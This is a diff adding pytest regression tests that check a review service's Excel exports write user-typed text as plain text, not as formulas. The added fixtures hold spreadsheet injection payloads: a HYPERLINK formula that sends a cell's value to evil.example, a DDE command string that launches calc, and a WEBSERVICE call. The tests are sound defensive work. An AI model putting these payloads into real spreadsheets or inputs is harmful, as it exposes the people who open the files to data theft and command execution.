@@ -4,10 +4,12 @@ each field compared with the library's own data for the scenario's quarter (revi
 
 from __future__ import annotations
 
+import zipfile
 from datetime import date, datetime
 from pathlib import Path
 from typing import Any
 
+import attrs
 import docx
 import openpyxl
 import pytest
@@ -885,3 +887,68 @@ def test_sheet_names_stay_unique_excel_safe_and_short(tmp_path: Path) -> None:
     coverage = openpyxl.load_workbook(tmp_path / "c.xlsx").sheetnames
     assert "汇总(2)" in coverage  # 局机关党支部 renamed 汇总
     assert sum(1 for n in coverage if n.startswith("区人民医院_内科__第一党支部")) == 2
+
+
+HOSTILE = {
+    "wu": '=HYPERLINK("http://evil.example/?"&B2,"详情")',
+    "sun": "+cmd|' /C calc'!A0",
+}
+HOSTILE_MEASURE = '=WEBSERVICE("http://evil.example/")'
+
+
+def _hostile_quarter() -> rf.ReviewService:
+    """The scenario's quarter with names and a ledger measure an attacker typed."""
+    service = scenario_service(today=date(2023, 12, 28))
+    roster = service.roster()
+    members = [attrs.evolve(roster.members[m], name=name) for m, name in HOSTILE.items()]
+    internal = attrs.evolve(roster.organizations["internal"], name="=1+1")
+    service.import_roster(OFFICE, organizations=[internal], members=members)
+    run_quarter(service)
+    review = _find(service, "zhou", "sun", "2023-12")
+    requirement = review.requirements[0]
+    service.plan_item(
+        "sun", review.id, requirement_id=requirement.id, measure=HOSTILE_MEASURE,
+        owner=HOSTILE["sun"], due=date(2024, 1, 15),
+    )  # fmt: skip
+    return service
+
+
+def test_r_input_no_exported_workbook_carries_a_formula_from_user_text(tmp_path: Path) -> None:
+    """Issue #16: text that begins with ``=`` or ``+`` (names, a ledger measure and owner) is
+    written as text in every workbook: openpyxl reads no formula cell back, and the sheets'
+    XML holds no ``<f>`` element, while the text itself is there to read."""
+    service = _hostile_quarter()
+    books = [
+        coverage_workbook(service, OFFICE, QUARTER, tmp_path / "c.xlsx"),
+        ledger_workbook(service, OFFICE, QUARTER, tmp_path / "l.xlsx"),
+        summary_workbook(service, OFFICE, "bureau", 2023, tmp_path / "s.xlsx"),
+    ]
+    for path in books:
+        book = openpyxl.load_workbook(path)
+        cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
+        assert [c.coordinate for c in cells if c.data_type == "f"] == [], path.name
+        texts = {str(c.value) for c in cells if c.value is not None}
+        found = {
+            t for t in (*HOSTILE.values(), "=1+1", HOSTILE_MEASURE) if any(t in x for x in texts)
+        }
+        assert found, path.name  # the hostile text is there, as text
+        with zipfile.ZipFile(path) as archive:
+            for name in archive.namelist():
+                if name.startswith("xl/worksheets/"):
+                    assert b"<f>" not in archive.read(name), (path.name, name)
+    ledger = openpyxl.load_workbook(books[1])
+    ledger_texts = {c.value for s in ledger.worksheets for r in s.iter_rows() for c in r}
+    assert {HOSTILE_MEASURE, HOSTILE["sun"]} <= ledger_texts
+
+
+def test_r_input_a_control_character_stored_before_the_limits_does_not_stop_an_export(
+    tmp_path: Path,
+) -> None:
+    """A name with U+000B written straight to the store (as data from before R-INPUT): the
+    coverage workbook is still written, the character shown as a space."""
+    service = _fresh()
+    wu = attrs.evolve(service.roster().members["wu"], name="吴\x0b红")
+    service.store.apply(rf.ChangeSet(roster=(wu,)))
+    book = openpyxl.load_workbook(coverage_workbook(service, OFFICE, QUARTER, tmp_path / "c.xlsx"))
+    texts = {c.value for s in book.worksheets for r in s.iter_rows() for c in r}
+    assert "吴 红" in texts
